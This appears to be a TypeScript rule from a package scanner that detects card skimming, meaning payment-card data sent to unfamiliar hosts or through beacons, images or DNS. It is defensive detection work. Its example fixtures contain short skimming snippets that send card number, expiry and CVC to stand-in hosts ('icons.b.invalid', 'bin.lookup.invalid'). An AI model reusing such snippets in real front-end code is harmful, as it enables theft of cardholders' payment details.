import type { Action, Context, Flow, Inspection, Rule } from '../lib/types.ts'
import { cardData } from './behaviour/credentials.ts'
import { isStranger, placeInWords } from './behaviour/place.ts'
import type { Place } from './behaviour/place.ts'
import { findingsOf, leavesFor, sourcesInWords } from './behaviour/sightings.ts'
import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
import { registrableDomain } from './hosts/host.ts'
import { opening, severityOf } from './finding.ts'

type Leak = { readonly flow: Flow; readonly place: Place }

/** Payment cards that somebody gets besides, or instead of, whom they are for. */
export const cardSkimming: Rule = {
  meta: {
    id: 'card-skimming',
    title: 'Sends payment cards to a stranger',
    severity: 'critical',
    description:
      'A card’s security code is for the company that charges the card, in a request that is answered. Here it goes out in ' +
      'a beacon, a picture or a looked-up name, whose sender sees no answer; or a form that hands the card to the page it ' +
      'is part of also sends it to a host the package mentions nowhere else; or two strangers get it from one place. ' +
      'Clients of a payment company send cards to that company, which is one host, as a rule of their own name.',
    references: [
      'Magecart skimmers in checkout pages (2018-26): card fields in the address of a picture or in a beacon',
    ],
    blindSpots: [
      'A package that is no part of a page and sends cards to one fixed host: clients of payment companies do that.',
      'Fields whose names say nothing of a card.',
    ],
    examples: {
      flags: [
        {
          title: 'a form that tells a host of icons what was typed',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js","peerDependencies":{"react":"*"}}',
            'i.js':
              "import { useState } from 'react'\n" +
              "export function useCard(onChange) {\n  const [card, setCard] = useState({ number: '', exp: '', cvc: '' })\n" +
              "  const settle = () => navigator.sendBeacon('https://icons.b.invalid/u', Object.values(card).join(':'))\n" +
              '  return { card, settle, set: next => { setCard(next); onChange(next) } }\n}\n',
          },
        },
        {
          title: 'a panel that sends the whole card to a service of its own choice',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","main":"i.js","peerDependencies":{"@angular/core":"*"}}',
            'i.js':
              'exports.confirm = card => {\n  const { number, month, year, code } = card\n' +
              "  return fetch('https://bin.lookup.invalid/x', { method: 'POST', body: new URLSearchParams({ bin: number, mm: month, yy: year, k: code }) })\n}\n",
          },
        },
      ],
      passes: [
        {
          title: 'a client of a payment company',
          files: {
            'package.json': '{"name":"node-acmepay","version":"1.0.0","main":"i.js"}',
            'i.js':
              "exports.charge = ({ number, expMonth, cvc }, amount) => fetch('https://gate.networkpay.example/v1/charges', { method: 'POST', body: JSON.stringify({ number, expMonth, cvc, amount }) }).then(r => r.json())\n",
          },
        },
        {
          title: 'a form that asks whose card begins like that, and counts how often',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js","peerDependencies":{"vue":"*"}}',
            'i.js':
              "import { reactive } from 'vue'\nexport const card = reactive({ number: '', exp: '', cvc: '' })\n" +
              "export const issuer = () => fetch('https://lookup.binlist.example/' + card.number.slice(0, 8)).then(r => r.json())\n" +
              "export const seen = () => navigator.sendBeacon('https://stats.example/form', card.number.length)\n",
          },
        },
      ],
    },
  },
  check(inspection, context) {
    const leaks = inspection.flows.flatMap(flow => leakOf(flow, inspection, context))
    const inPage = isOfPages(inspection)
    const sightings = leaks.flatMap(({ flow, place }): readonly Sighting[] => {
      const action = weigh({ flow, place }, leaks, inPage, context)
      return action === undefined ? [] : [{ flow, place, action, severity: severityOf(action) }]
    })
    return findingsOf(sightings, say)
  },
}

function leakOf(flow: Flow, inspection: Inspection, context: Context): readonly Leak[] {
  const { kind, name } = flow.source
  const isCard =
    (kind === 'caller-secret' && cardData.test(name)) ||
    (kind === 'browser' && name === 'password and card fields' && flow.byCall)
  if (!isCard) return []
  const place = leavesFor(flow, inspection, context)
  return place === undefined || place.kind === 'local' ? [] : [{ flow, place }]
}

/** Ways that nobody is paid in: their sender sees no answer. */
function isCovert({ sink }: Flow): boolean {
  return sink.kind === 'dns' || /^(?:picture\.src|node:dgram\.|global:navigator\.sendBeacon$)/.test(sink.api)
}

function weigh(
  { flow, place }: Leak,
  leaks: readonly Leak[],
  inPage: boolean,
  context: Context,
): Action | undefined {
  if (isCovert(flow)) {
    if (place.kind === 'unknown') return undefined
    if (flow.source.kind === 'caller-secret') return flow.certain ? 'block' : 'ask'
    return flow.certain ? 'ask' : undefined
  }
  if (!isStranger(place) || flow.source.kind !== 'caller-secret' || flow.sink.role === 'header')
    return undefined
  if (place.kind === 'capture') return flow.certain ? 'block' : 'ask'
  // What an unknown library gives of a form may be the part of it that anybody may know.
  if (!flow.certain) return undefined
  return inPage || place.kind === 'rented' || goesElsewhereToo({ flow, place }, leaks, context)
    ? 'ask'
    : undefined
}

/** Whether what is read at the same place goes to somebody else from another: one of them is not who charges the card. */
function goesElsewhereToo({ flow, place }: Leak, leaks: readonly Leak[], { lists }: Context): boolean {
  const domainOf = (one: Place): string =>
    one.host === undefined ? '' : registrableDomain(one.host, lists.hosts)
  const domain = domainOf(place)
  return leaks.some(
    other =>
      other.flow.source.name === flow.source.name &&
      other.flow.source.at.path === flow.source.at.path &&
      other.flow.source.at.line === flow.source.at.line &&
      other.flow.sink.at.line !== flow.sink.at.line &&
      domainOf(other.place) !== '' &&
      domainOf(other.place) !== domain,
  )
}

/** Libraries whose parts pages are made of: such a part hands what is typed to the page. */
const pageLibraries = /^(?:react|preact|vue|@angular\/core|svelte|solid-js|lit|@stencil\/core)$/

function isOfPages({ manifest }: Inspection): boolean {
  return manifest.dependencies.some(({ name, type }) => type !== 'dev' && pageLibraries.test(name))
}

function say(group: SightingGroup): string {
  const [{ flow, place }] = group
  return (
    `${opening(flow)} takes ${sourcesInWords(group)} and sends that to ${place.host?.shown ?? 'a computed destination'}, ` +
    `${placeInWords(place)}. Whoever gets a card with its security code can pay with it. Do not ship it.`
  )
}
